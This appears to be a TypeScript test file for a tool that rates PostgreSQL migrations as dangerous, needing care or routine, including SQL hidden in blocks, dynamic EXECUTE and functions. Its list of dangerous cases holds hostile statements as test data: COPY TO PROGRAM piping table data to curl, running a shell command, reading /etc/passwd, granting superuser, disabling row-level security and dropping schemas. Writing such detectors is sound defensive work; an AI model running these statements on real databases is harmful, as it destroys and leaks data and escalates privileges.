/** What SQL does, whichever way a file runs it: directly, in a block, composed as text, or in a function that it calls. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { migrationChanges } from "../migrations.ts";

const BASE = `CREATE TABLE orders (id bigint PRIMARY KEY, name text, code varchar(10), total numeric(10, 2), paid boolean);
CREATE TABLE lines (id bigint PRIMARY KEY, order_id bigint REFERENCES orders (id));
CREATE INDEX ON lines (order_id);
CREATE FUNCTION tidy() RETURNS void LANGUAGE sql AS 'SELECT 1';
`;

let folder: string;
let count = 0;
beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), "slipway sql "));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The change of adding a file with this SQL, with a down migration. */
async function changeWith(sql: string) {
  const [before, after] = ["before", "after"].map((side) => path.join(folder, `${count}-${side}`)) as [string, string];
  count++;
  for (const side of [before, after]) {
    mkdirSync(side);
    writeFileSync(path.join(side, "001_base.sql"), BASE);
    writeFileSync(path.join(side, "001_base.down.sql"), "DROP TABLE lines; DROP TABLE orders;\n");
  }
  writeFileSync(path.join(after, "002_change.sql"), `${sql}\n`);
  writeFileSync(path.join(after, "002_change.down.sql"), "SELECT 1;\n");
  const [change] = await migrationChanges(before, after, "shop");
  return change!;
}

const quoted = (sql: string): string => `'${sql.replaceAll("'", "''")}'`;

/** Ways to run a statement. `%` is the statement, `'%'` a literal with it. */
const WAYS: Readonly<Record<string, (sql: string) => string>> = {
  "by itself": (sql) => `${sql};`,
  "in a block": (sql) => `DO $do$ BEGIN ${sql}; END $do$;`,
  "behind a condition in a block": (sql) => `DO $do$ BEGIN IF now() > '2020-01-01' THEN ${sql}; ELSE NULL; END IF; END $do$;`,
  "in the handler of an error": (sql) => `DO $do$ BEGIN NULL; EXCEPTION WHEN others THEN ${sql}; END $do$;`,
  "composed as one literal": (sql) => `DO $do$ BEGIN EXECUTE ${quoted(sql)}; END $do$;`,
  "composed of two literals": (sql) => `DO $do$ BEGIN EXECUTE ${quoted(sql.slice(0, 9))} || ${quoted(sql.slice(9))}; END $do$;`,
  "composed by format()": (sql) => `DO $do$ BEGIN EXECUTE format('%s', ${quoted(sql)}); END $do$;`,
  "in a function that is called": (sql) =>
    `CREATE FUNCTION work() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN ${sql}; END $f$; SELECT work();`,
  "in a function with a parameter that it assigns": (sql) =>
    `CREATE FUNCTION work(n int) RETURNS void LANGUAGE plpgsql AS $f$ BEGIN n := 1; ${sql}; END $f$; SELECT work(1);`,
  "in a function that a block performs": (sql) =>
    `CREATE FUNCTION work() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN ${sql}; END $f$; DO $do$ BEGIN PERFORM work(); END $do$;`,
  "in a function of a function": (sql) =>
    `CREATE FUNCTION inner_work() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN ${sql}; END $f$;
     CREATE FUNCTION work() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN PERFORM inner_work(); END $f$; SELECT work();`,
  "in a procedure that is called": (sql) => `CREATE PROCEDURE work() LANGUAGE plpgsql AS $f$ BEGIN ${sql}; END $f$; CALL work();`,
  "in a function that a query's condition calls": (sql) =>
    `CREATE FUNCTION work() RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN ${sql}; RETURN true; END $f$; SELECT 1 FROM orders WHERE work();`,
};

const DANGEROUS = [
  ...["DROP TABLE orders CASCADE", "DROP SCHEMA public CASCADE", "TRUNCATE orders CASCADE", "ALTER TABLE orders DROP COLUMN name"],
  ...["DELETE FROM orders", "DELETE FROM orders WHERE true", "DELETE FROM orders WHERE 1 = 1", "DELETE FROM orders WHERE id = id"],
  ...[
    "DELETE FROM orders WHERE id IS NOT NULL",
    "DELETE FROM orders WHERE id IN (SELECT id FROM orders)",
    "DELETE FROM orders o USING lines",
  ],
  ...[
    "DELETE FROM orders WHERE name = 'x' OR true",
    "DELETE FROM orders WHERE name LIKE '%'",
    "DELETE FROM orders WHERE now() > '2020-01-01'",
  ],
  ...["UPDATE orders SET name = 'x'", "UPDATE orders SET name = NULL WHERE 'a' < 'b'", "UPDATE orders SET total = 0 WHERE paid = paid"],
  ...["WITH gone AS (DELETE FROM orders RETURNING *) INSERT INTO lines SELECT id, id FROM gone", "DROP OWNED BY shop_user"],
  ...["DROP SEQUENCE counter", "DROP TYPE mood CASCADE", "ALTER TABLE orders SET UNLOGGED", "ALTER TABLE orders DISABLE TRIGGER ALL"],
  ...["ALTER TABLE orders DISABLE ROW LEVEL SECURITY", "ALTER TABLE orders NO FORCE ROW LEVEL SECURITY", "DROP POLICY own ON orders"],
  ...[
    "CREATE POLICY everyone ON orders USING (true)",
    "ALTER POLICY own ON orders USING (1 = 1)",
    "CREATE POLICY w ON orders FOR INSERT WITH CHECK (true)",
  ],
  ...["ALTER ROLE shop_user SUPERUSER", "ALTER ROLE shop_user BYPASSRLS", "ALTER ROLE shop_user PASSWORD 'abc'", "CREATE ROLE other LOGIN"],
  ...[
    "ALTER ROLE shop_user SET search_path = evil",
    "DROP ROLE shop_user",
    "GRANT shop_owner TO shop_user",
    "GRANT ALL ON orders TO shop_user",
  ],
  ...["GRANT SELECT ON orders TO PUBLIC", "GRANT SELECT ON orders TO shop_user WITH GRANT OPTION", "GRANT TRUNCATE ON orders TO shop_user"],
  ...["GRANT CREATE ON SCHEMA public TO shop_user", "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO shop_user"],
  ...[
    "ALTER TABLE orders OWNER TO shop_user",
    "REASSIGN OWNED BY shop_owner TO shop_user",
    "SET ROLE shop_owner",
    "SET SESSION AUTHORIZATION postgres",
  ],
  ...["SET session_replication_role = replica", "SET row_security = off", "SELECT set_config('role', 'postgres', false)"],
  ...["COPY orders TO PROGRAM 'curl -d @- https://example.com'", "COPY orders FROM PROGRAM 'id'", "COPY orders TO '/tmp/orders'"],
  ...[
    "CREATE EXTENSION dblink",
    "CREATE EXTENSION plpython3u",
    "SELECT dblink_exec('host=x', 'DROP TABLE y')",
    "SELECT pg_read_file('/etc/passwd')",
  ],
  ...["SELECT pg_terminate_backend(1)", "SELECT lo_export(1, '/tmp/x')", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw"],
  ...["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "LOAD 'auto_explain'", "ALTER DATABASE shop SET search_path = evil"],
];

/** Not in a block or a function: Postgres runs them by themselves only, or the words mean something else there. */
const ALONE = ["ALTER SYSTEM SET fsync = off", "DROP DATABASE shop", "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION tidy()"];

const cases = [
  ...DANGEROUS.flatMap((sql) => Object.entries(WAYS).map(([way, make]) => [sql, way, make(sql)] as const)),
  ...ALONE.map((sql) => [sql, "by itself", `${sql};`] as const),
];

describe("dangerous SQL", () => {
  it.each(cases)("is a danger: %s, %s", async (_, __, sql) => {
    const { risk, note, findings } = await changeWith(sql);
    expect([risk, note, findings.filter(({ rule }) => rule === "syntax")]).toEqual(["danger", expect.any(String), []]);
  });
});

describe("SQL whose effect is not known", () => {
  it.each([
    ["composed of a variable", "DO $$ DECLARE s text; BEGIN SELECT name INTO s FROM orders LIMIT 1; EXECUTE s; END $$;", "care"],
    [
      "composed for each row",
      "DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP EXECUTE format('VACUUM %I', r); END LOOP; END $$;",
      "care",
    ],
    [
      "a DROP composed for each row",
      "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename t FROM pg_tables LOOP EXECUTE format('DROP TABLE %I', r.t); END LOOP; END $$;",
      "danger",
    ],
    ["a GRANT composed with a variable", "DO $$ DECLARE u text := 'x'; BEGIN EXECUTE 'GRANT ALL ON orders TO ' || u; END $$;", "danger"],
    ["a loop over a composed query", "DO $$ DECLARE r record; s text; BEGIN FOR r IN EXECUTE s LOOP NULL; END LOOP; END $$;", "care"],
  ])("is never routine: %s", async (_, sql, risk) => {
    const change = await changeWith(sql);
    expect(change).toMatchObject({ risk, findings: expect.arrayContaining([expect.objectContaining({ rule: "unknown-effect" })]) });
  });
});

describe("SQL that needs care", () => {
  it.each([
    "DELETE FROM orders WHERE paid AND id < 100;",
    "UPDATE orders SET name = 'x' WHERE name = 'y';",
    "DROP VIEW IF EXISTS totals;",
    "ALTER TABLE lines DROP CONSTRAINT lines_order_id_fkey;",
    "GRANT SELECT ON orders TO shop_reader;",
    "REVOKE SELECT ON orders FROM shop_reader;",
    "CREATE POLICY own ON orders USING (name = current_user);",
    "CREATE FUNCTION secure() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS 'SELECT 1';",
    "SELECT setval('orders_id_seq', 1000);",
    // No value is lost, but every row is written.
    "ALTER TABLE orders ADD COLUMN note text; UPDATE orders SET note = 'x';",
  ])("%s", async (sql) => expect(await changeWith(sql)).toMatchObject({ risk: "care" }));
});

describe("harmless SQL", () => {
  it.each([
    "ALTER TABLE orders ALTER name TYPE varchar;",
    "ALTER TABLE orders ALTER code TYPE varchar(20); ALTER TABLE orders ALTER code TYPE text;",
    "ALTER TABLE orders ALTER total TYPE numeric(12, 2);",
    "CREATE TABLE notes (id bigint PRIMARY KEY, text text); INSERT INTO notes VALUES (1, 'x'); UPDATE notes SET text = 'y'; DELETE FROM notes;",
    "CREATE TABLE notes (id bigint PRIMARY KEY); TRUNCATE notes; DROP TABLE notes;",
    "INSERT INTO orders (id, name) VALUES (1, 'DROP TABLE orders');",
    "COMMENT ON TABLE orders IS 'DELETE FROM orders';",
    "SELECT 'TRUNCATE orders';",
    "DO $$ BEGIN RAISE NOTICE 'DROP TABLE orders'; END $$;",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$;",
    "CREATE VIEW totals WITH (security_invoker = true) AS SELECT sum(total) FROM orders;",
    "SET lock_timeout = '2s';",
    "SELECT set_config('app.tenant', 'x', true);",
    "SELECT tidy();",
  ])("is routine: %s", async (sql) => expect(await changeWith(sql)).toMatchObject({ risk: "routine" }));
});
